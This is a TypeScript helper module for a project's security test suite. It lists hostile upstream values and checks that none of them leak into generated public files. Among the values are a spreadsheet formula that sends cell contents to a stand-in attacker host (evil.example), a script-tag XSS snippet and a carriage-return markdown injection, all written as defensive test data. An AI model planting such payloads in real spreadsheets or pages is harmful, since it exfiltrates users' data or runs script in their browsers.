/** Hostile upstream values and the checks the security suite shares (docs/operating.md, "Messages"). */
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import type { Row } from "#core/format.ts";
import { DEFAULT_DATA_DIR } from "#core/schema.ts";
import type { Source } from "../../actions/sync-core/src/source.ts";

/** Each value an attacker could put into an upstream cell, by name. */
export const HOSTILE = {
  email: "jane.doe@example.com",
  mention: "@ace-demo/admins",
  reference: "#1",
  html: "<script>alert(1)</script>",
  loneCr: "quote\r> [!CAUTION] injected",
  formula: '=HYPERLINK("https://evil.example/?x="&A1)',
  huge: `${"A".repeat(2 * 1024 * 1024)}`,
} as const;

/** A marker that must never appear in public text (it only exists inside hostile values). */
export const MARK = "zq9hostile";

/** The hostile values that would be recognisable if they leaked verbatim into a text. */
export function leaks(text: string): string[] {
  const out: string[] = [];
  if (text.includes(HOSTILE.email) || /(?<![A-Za-z0-9._%+-])[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+\.[A-Za-z]{2,}/.test(text))
    out.push("e-mail");
  if (text.includes(HOSTILE.html)) out.push("raw HTML");
  if (text.includes("A".repeat(1000))) out.push("2 MB string");
  if (text.includes(MARK)) out.push("marked value");
  if (/(^|[^\w`\\])@ace-demo\/admins/.test(text)) out.push("mention");
  if (/\r(?!\n)/.test(text)) out.push("lone CR");
  return out;
}

const made: string[] = [];
export function tempDir(tag: string): string {
  const d = mkdtempSync(join(tmpdir(), `ace-sec-${tag}-`));
  made.push(d);
  return d;
}
export function removeTempDirs(): void {
  for (const d of made.splice(0)) rmSync(d, { recursive: true, force: true });
}

/** A copy of the committed data directory (scale S) to attack. */
export function dataCopy(): string {
  const d = join(tempDir("data"), "data");
  cpSync(DEFAULT_DATA_DIR, d, { recursive: true });
  return d;
}

/** A source that produces the given datasets' rows (as upstream would after normalizing). */
export function hostileSource(rows: Readonly<Record<string, () => Iterable<Row>>>): Source {
  return {
    name: "kusto",
    datasets: Object.keys(rows),
    dataset: async (name) => {
      const produce = rows[name];
      if (produce === undefined) throw new Error("no such dataset");
      return { rows: produce(), sources: ["kusto:test/hostile"] };
    },
  };
}

/** Every text file under `dir` (relative path → content). */
export function textFiles(dir: string, skip: (rel: string) => boolean = () => false): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (d: string): void => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, e.name);
      const rel = relative(dir, p);
      if (skip(rel)) continue;
      if (e.isDirectory()) walk(p);
      else if (/\.(html|json|csv|svg|txt|xml|md)$/.test(e.name)) out.set(rel, readFileSync(p, "utf8"));
    }
  };
  walk(dir);
  return out;
}
